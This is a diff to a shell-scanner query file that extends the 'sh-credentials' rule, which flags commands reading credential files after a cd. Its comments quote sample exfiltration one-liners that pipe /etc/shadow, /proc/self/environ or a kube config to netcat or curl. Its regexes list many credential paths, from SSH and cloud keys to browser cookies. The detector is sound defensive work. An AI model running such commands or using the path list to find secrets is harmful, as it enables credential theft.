@@ -344,14 +344,17 @@
  (#set! message "names a file that holds credentials (SSH or cloud keys, passwords, tokens)"))
 
 ; cd /etc && cat shadow, (cd ~/.kube; curl -T config ...), cd /etc; cat
-; shadow | nc h p, cd /proc/self; nc h p < environ, cd ~/.kube on a line of
-; its own then gzip -c config | nc h p: a credential file named relative
-; to the directory the cd right before its statement went to (a directory
-; that is itself one, ~/.ssh, already is; the same directory's ordinary
-; files are not)
+; shadow | nc h p, cd /proc/self; nc h p < environ, cd ~/.kube, a message
+; and a counter, then gzip -c config | nc h p; cd ~/.config, then
+; gh/hosts.yml; a bare cd, then .config/gcloud/credentials.db: a relative
+; path that, joined to the directory the last cd before its statement went
+; to, names a credential file, or one of the credential files in such a
+; directory (the path alone does not; a directory that is itself one,
+; ~/.ssh, already is; the same directory's ordinary files are not; a cd
+; undone by cd - or popd, or in a subshell that ended, does not count)
 ([(command argument: (_) @target) (file_redirect destination: (_) @target)] @finding
- (#value-match? @target "^([\\w-]*[=@])?(\\./)?(g?shadow|sudoers|master\\.passwd|environ|config\\.json|config|hosts\\.yml|credentials\\.db|access_tokens\\.db|application_default_credentials\\.json|legacy_credentials(/.*)?|auth\\.json|config\\.yaml|config\\.yml|credentials(\\.json)?|\\.credentials\\.json|settings(-security)?\\.xml|gradle\\.properties|kaggle\\.json|token|stored_tokens|firebase-tools\\.json)$")
- (#after-cd-match? @target "^(/+etc|/+proc/[^/]+(/task/[^/]+)?|(~|/home/[^/]+|/root)/+(\\.docker|\\.kube|\\.config/(gh|gcloud|containers|doctl|op|rclone|hub)|\\.kaggle|\\.m2|\\.gradle|\\.cache/huggingface|\\.oci|\\.fly|\\.codex|\\.claude|\\.cargo|\\.gem|\\.terraform\\.d))/*$")
+ (#value-match? @target "^(([\\w-]*[=@])?(\\./)?(g?shadow|sudoers|master\\.passwd|environ|config\\.json|config|hosts\\.yml|credentials\\.db|access_tokens\\.db|application_default_credentials\\.json|legacy_credentials(/.*)?|auth\\.json|config\\.yaml|config\\.yml|credentials(\\.json)?|\\.credentials\\.json|settings(-security)?\\.xml|gradle\\.properties|kaggle\\.json|token|stored_tokens|firebase-tools\\.json)$|([\\w-]*[=@])?[\\w.-]+/)")
+ (#after-cd-path-match? @target "(^|[/\\s=:])\\.ssh(?![\\w.-])(?!/+(known_hosts2?|config)(?![\\w.-]))|(^|[/\\s=:])\\.aws(?![\\w.-])|(^|[/\\s=:])etc/(g?shadow|sudoers|master\\.passwd)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc|config/(containers/auth\\.json|git/credentials|doctl/config\\.yaml|configstore/firebase-tools\\.json|hub|op|rclone)|cache/huggingface/(token|stored_tokens)|kaggle/kaggle\\.json|m2/settings(-security)?\\.xml|gradle/gradle\\.properties|oci/config|fly/config\\.yml|codex/auth\\.json|claude/\\.credentials\\.json|s3cfg|boto)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/[^/\\s]+/(task/[^/\\s]+/)?environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets|\\.mozilla/firefox|\\.config/(google-chrome|chromium|BraveSoftware|microsoft-edge|vivaldi|opera)/.*(Cookies|Web Data)(?![\\w.-])|(^|[/\\s=:])(cookies\\.sqlite|logins\\.json|key[34]\\.db|Login Data)(?![\\w.-])|\\.local/share/keyrings|Library/Keychains|(^|[/\\s=:])\\.password-store(?![\\w.-])|^(/+etc|/+proc/[^/]+(/task/[^/]+)?|(~|/home/[^/]+|/root)/+(\\.docker|\\.kube|\\.config/(gh|gcloud|containers|doctl|op|rclone|hub)|\\.kaggle|\\.m2|\\.gradle|\\.cache/huggingface|\\.oci|\\.fly|\\.codex|\\.claude|\\.cargo|\\.gem|\\.terraform\\.d))/+([\\w-]*[=@])?(\\./)?(g?shadow|sudoers|master\\.passwd|environ|config\\.json|config|hosts\\.yml|credentials\\.db|access_tokens\\.db|application_default_credentials\\.json|legacy_credentials(/.*)?|auth\\.json|config\\.yaml|config\\.yml|credentials(\\.json)?|\\.credentials\\.json|settings(-security)?\\.xml|gradle\\.properties|kaggle\\.json|token|stored_tokens|firebase-tools\\.json)$")
  (#set! id "sh-credentials")
  (#set! severity "high")
  (#set! message "names a file that holds credentials (SSH or cloud keys, passwords, tokens)"))
